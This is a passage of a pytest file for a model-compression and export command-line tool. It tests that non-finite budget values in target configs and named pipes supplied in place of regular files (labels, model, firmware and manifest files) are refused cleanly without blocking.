@pytest.mark.parametrize("old, new", [("latency_ms = 20.0", "latency_ms = nan"),
                                      ("latency_ms = 20.0", "latency_ms = inf"),
                                      ("min_accuracy_pct = 95.0", "min_accuracy_pct = -nan"),
                                      ("max_drop_pts = 1.0", "max_drop_pts = -inf")])
def test_budgets_must_be_finite(tmp_path, old, new):
    targets = tmp_path / "targets"
    targets.mkdir()
    text = (ROOT / "targets" / "rpi4.toml").read_text()
    assert old in text
    (targets / "rpi4.toml").write_text(text.replace(old, new))
    r = cli("benchmarks.run", "--target", "rpi4", "--targets-dir", targets, "--run", tmp_path,
            "--json", tmp_path / "out.json")
    assert_refused(r, "must be a finite number", tmp_path / "out.json")


# --- FIFOs --------------------------------------------------------------------------------------------------------------

def _fifo(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists():
        path.unlink()
    os.mkfifo(path)
    return path


def test_fifo_labels_file_is_refused(made, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    r = cli("compress", "teach", "--run", run, "--teacher", "labels-file", "--teacher-labels",
            _fifo(tmp_path / "labels.csv"), timeout=120)
    assert_refused(r, "not a regular file")


@pytest.mark.parametrize("where", ["target-file", "tflite", "uf2", "release-manifest", "run-model",
                                   "export-file", "run-manifest"])
def test_fifo_is_refused_never_waited_on(run_copy, tmp_path, where):
    if where == "target-file":
        targets = tmp_path / "targets"
        _fifo(targets / "rpi4.toml")
        args, match = ("benchmarks.run", "--target", "rpi4", "--targets-dir", targets, "--run", run_copy), \
            "not a regular file"
    elif where == "tflite":
        args, match = ("export.rp2040.compile", "--tflite", _fifo(tmp_path / "m.tflite"), "--out", tmp_path / "g"), \
            "not a regular file"
    elif where == "uf2":
        args, match = ("export.rp2040.uf2", "check", _fifo(tmp_path / "f.uf2")), "not a regular file"
    elif where == "release-manifest":
        _fifo(tmp_path / "rel" / "manifest.json")
        args, match = ("compress.fetch", "--from", tmp_path / "rel", "--list"), "not a regular file"
    elif where == "run-model":
        _fifo(run_copy / "quant" / "student_float.onnx")
        args, match = ("compress", "export", "--run", run_copy, "--target", "openvino"), "student_float.onnx"
    elif where == "export-file":
        _fifo(run_copy / "export" / "rpi4" / "README.md")
        args, match = ("compress.release", "--run", run_copy, "--release-out", tmp_path / "dist", "--version", "1.0.0",
                       "--release-targets", "rpi4"), "not a regular file"
    else:
        _fifo(run_copy / "quant" / "manifest.json")
        args, match = ("compress", "export", "--run", run_copy, "--target", "openvino"), "not a regular file"
    r = cli(*args, timeout=120)
    assert_refused(r, match)


def test_fifo_helpers_refuse_without_blocking(tmp_path):
    from edgecore.io import read_bytes, read_json, sha256_file

    f = _fifo(tmp_path / "p")
    for fn in (read_bytes, read_json, sha256_file):
        with pytest.raises(UserError, match="not a regular file"):
            fn(f)
